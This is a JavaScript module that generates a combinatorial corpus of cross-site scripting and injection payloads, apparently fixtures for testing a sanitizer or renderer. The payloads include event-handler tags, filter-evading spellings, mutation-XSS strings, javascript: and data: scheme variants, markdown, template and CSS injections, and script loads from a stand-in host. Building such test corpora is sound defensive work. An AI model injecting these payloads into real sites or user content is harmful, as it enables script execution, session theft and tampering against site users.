// payloads.mjs - texts that are code where somebody takes text for markup, an address or a
// pattern. Families are products of a few words, so that no case is left out by chance.
//
// Whatever succeeds calls pwned(), which the scenario has put into the page, or asks a host
// that doesn't exist.
const CALL = "pwned()";
const HOST = "//kith-test.invalid/x";

function product(...lists)
{
	return lists.reduce((rows, list) => rows.flatMap(row => list.map(one => [...row, one])), [[]]);
}

// Handlers that need nobody's hand, or a hand that passes by.
const handlers = product(
	["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus",
		"details open", "select autofocus", "textarea autofocus", "marquee", "a href=# autofocus",
		"button popovertarget=x", "div popover", "object data=x", "iframe src=about:blank"],
	["onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"],
).map(([tag, handler]) => `<${tag} ${handler}=${CALL}>`);

// How a tag is spelled, so that a filter doesn't see it and a parser does.
const spellings = [
	`<IMG SRC=x ONERROR=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<img\tsrc=x\tonerror=${CALL}>`,
	`<img\nsrc=x\nonerror=${CALL}>`, `<img\fsrc=x\fonerror=${CALL}>`, `<img src=x onerror=${CALL}//`,
	`<img src="x" onerror="${CALL}"`, `<<img src=x onerror=${CALL}>>`, `< img src=x onerror=${CALL}>`,
	`<img src='x'onerror='${CALL}'>`, `<img src=x onerror=\`${CALL}\`>`, `<scr<script>ipt>${CALL}</script>`,
	`<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script\n>${CALL}</script\n>`,
	`<script src=${HOST}></script>`, `<script/src=data:,${CALL}></script>`, `<script type=module>${CALL}</script>`,
	`<script>${CALL}`, `</script><script>${CALL}</script>`, `</title><script>${CALL}</script>`,
	`</textarea><script>${CALL}</script>`, `</style><img src=x onerror=${CALL}>`,
	`--><img src=x onerror=${CALL}>`, `]]><img src=x onerror=${CALL}>`, `"><img src=x onerror=${CALL}>`,
	`'><img src=x onerror=${CALL}>`, `\`><img src=x onerror=${CALL}>`, `" autofocus onfocus=${CALL} x="`,
	`' autofocus onfocus=${CALL} x='`, `&lt;img src=x onerror=${CALL}&gt;`, `&#60;img src=x onerror=${CALL}&#62;`,
	`&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`, `%3Cimg%20src=x%20onerror=${CALL}%3E`,
	`\\u003cimg src=x onerror=${CALL}\\u003e`, `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
	`\uFF1Cimg src=x onerror=${CALL}\uFF1E`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];

const svg = product(["animate", "set", "animateTransform", "animateMotion"],
	["onbegin", "onend", "onrepeat"]).map(([tag, handler]) =>
	`<svg><${tag} ${handler}=${CALL} attributeName=x dur=1s></${tag}></svg>`).concat(
	["a", "image", "use", "script", "foreignObject", "style", "title", "desc", "text", "feImage"]
		.flatMap(tag => [`<svg><${tag} href="javascript:${CALL}">x</${tag}></svg>`,
			`<svg><${tag} xlink:href="javascript:${CALL}">x</${tag}></svg>`,
			`<svg><${tag}><img src=x onerror=${CALL}></${tag}></svg>`]));

// What is one thing to the first parser and another to the second.
const mutations = product(
	["math", "svg"],
	["mtext", "mglyph", "annotation-xml encoding=text/html", "title", "desc", "foreignObject"],
	["style", "noscript", "xmp", "textarea", "title"],
).map(([outer, middle, inner]) => `<${outer}><${middle}><${inner}><!--</${inner}><img title="--&gt;` +
	`&lt;img src=x onerror=${CALL}&gt;">`).concat([
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
	`<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
	`<table><caption><svg><title><table></caption><style><a id="</style><img src=x onerror=${CALL}>">`,
	`<template><img src=x onerror=${CALL}></template>`,
	`<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
	`<plaintext><img src=x onerror=${CALL}>`, `<!--><img src=x onerror=${CALL}>-->`,
	`<!--!><img src=x onerror=${CALL}>`, `<?xml-stylesheet href="javascript:${CALL}"?>`,
	`<![CDATA[<img src=x onerror=${CALL}>]]>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
]);

// Schemes that are no link, however they are spelled.
const spelled = ["javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:",
	"java\nscript:", "java\rscript:", "\x01javascript:", "javascript\t:", "javascript&colon;",
	"&#106;avascript:", "&#x6A;avascript:", "jav&#x09;ascript:", "jav&#x0A;ascript:", "javascript%3A",
	"vbscript:", "livescript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:",
	"data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "file:///",
	"filesystem:", "about:blank#", "chrome://", "intent:", "ms-officecmd:", "\u202Ejavascript:",
	"\u200Bjavascript:", "javascript\uFF1A", "\u2028javascript:", "https:javascript:",
	"http:/javascript:", "mailto:javascript:", "tel:", "sms:", "ftp:"];
const schemes = product(spelled, [CALL, `//%0A${CALL}`, `alert(1)//`]).map(([a, b]) => a + b).concat(
	product(spelled.slice(0, 12), ["a", "form", "iframe", "object", "embed", "base"]).map(
		([scheme, tag]) => `<${tag} href="${scheme}${CALL}" action="${scheme}${CALL}" ` +
			`src="${scheme}${CALL}" data="${scheme}${CALL}">x</${tag}>`));

// Addresses that are links, with something behind or inside that must stay text.
const links = product(
	["https:", "http:", "mailto:"],
	[`${HOST}"onmouseover="${CALL}`, `${HOST}'onclick='${CALL}`, `${HOST}"><img src=x onerror=${CALL}>`,
		`${HOST}\`onerror=${CALL}`, `${HOST} onclick=${CALL}`, `${HOST}?a="></a><script>${CALL}</script>`,
		`${HOST}#javascript:${CALL}`, `//user:javascript@kith-test.invalid/`, `${HOST}\u202Egnp.exe`,
		`//kith-test.invalid\\@127.0.0.1/`, `//kith-test.invalid%00.example/`, `//[::1]:1/"onload=${CALL}`,
		`${HOST}/%22onmouseover=%22${CALL}`, `${HOST}/&quot;onmouseover=&quot;${CALL}`],
).map(parts => parts.join(""));

// What looks like marks of a text language.
const marks = [`[a](javascript:${CALL})`, `[a](java\nscript:${CALL})`, `![a](x"onerror="${CALL})`,
	`![a](javascript:${CALL})`, `[a]: javascript:${CALL}`, `<javascript:${CALL}>`, `[a](data:text/html,${CALL})`,
	`\`<img src=x onerror=${CALL}>\``, `\`\`\`<img src=x onerror=${CALL}>\`\`\``, `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
	`\`unclosed <img src=x onerror=${CALL}>`, `\`\`<svg onload=${CALL}>\`\``, `\`</code><img src=x onerror=${CALL}>\``,
	`*<img src=x onerror=${CALL}>*`, `**<svg/onload=${CALL}>**`, `> <img src=x onerror=${CALL}>`,
	`# <img src=x onerror=${CALL}>`, `||<img src=x onerror=${CALL}>||`, `\`https:${HOST}\` <b onclick=${CALL}>`,
	`https:${HOST}\`<img src=x onerror=${CALL}>\``];

// Templates, patterns of replace(), names of what every object has.
const templates = ["{{constructor.constructor('pwned()')()}}", "${pwned()}", "#{pwned()}", "<%= pwned() %>",
	"{%pwned()%}", "[[pwned()]]", "{{7*7}}", "${7*7}", "$&$`$'$1$$", "$<name>", "{name}", "{count}", "{0}", "%s%d%n",
	"__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then", "valueOf", "null", "undefined",
	"NaN", "[object Object]", "{\"text\":\"x\"}", "\"},{\"x\":\"", "v-html=pwned()", "ng-app ng-csp", "x-init=pwned()"];

// Direction and invisible letters, alone and around a tag.
const letters = ["\u202E", "\u202D", "\u202B", "\u2066", "\u2067", "\u2068", "\u200F", "\u061C", "\u200B", "\u200D",
	"\u2060", "\uFEFF", "\u00AD", "\u034F", "\u180E", "\u2028", "\u2029", "\uFFFC", "\u{E0041}", "\x7F", "\x1B[31m", "\x08"]
	.flatMap(letter => [`${letter}<img src=x onerror=${CALL}>`, `ab${letter}cd ${letter}ef`]);

const css = ["expression(pwned())", `url(javascript:${CALL})`, `url(${HOST})`, `@import '${HOST}';`,
	`}*{background:url(${HOST})}`, `-moz-binding:url(${HOST})`, `behavior:url(${HOST})`]
	.flatMap(value => [`<style>p{x:${value}}</style>`, `<p style="x:${value}">`, `red;${value}`]).concat([
	`<link rel=stylesheet href=${HOST}>`, `<link rel=prefetch href=${HOST}>`, `<link rel=preload as=script href=${HOST}>`,
	`<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=${HOST}">`,
	`<meta http-equiv=content-security-policy content="">`, `<base href=${HOST}>`,
	`<form action=javascript:${CALL}><button autofocus>`, `<img srcset="${HOST} 1x">`, `<img name=body><img name=location>`,
	`<a id=settings><a id=settings name=url href=${HOST}>`, `<form id=document><input name=cookie>`,
	`<input name=password value=x>`, `<picture><source srcset=${HOST}><img></picture>`, `<video poster=${HOST}>`,
	`<table background=${HOST}>`, `<iframe srcdoc="<script>${CALL}</script>">`, `<object data="data:text/html,<script>${CALL}</script>">`,
	`<embed src=javascript:${CALL}>`, `<dialog open onclose=${CALL}>`, `<slot onslotchange=${CALL}>`,
	`<xss style="animation: x" onanimationend=${CALL}>`, `<bdo dir=rtl onfocus=${CALL}>`, `<portal src=${HOST}>`]);

export const families = { handlers, spellings, svg, mutations, schemes, links, marks, templates,
	letters, css };

export const payloads = [...new Set(Object.values(families).flat())];
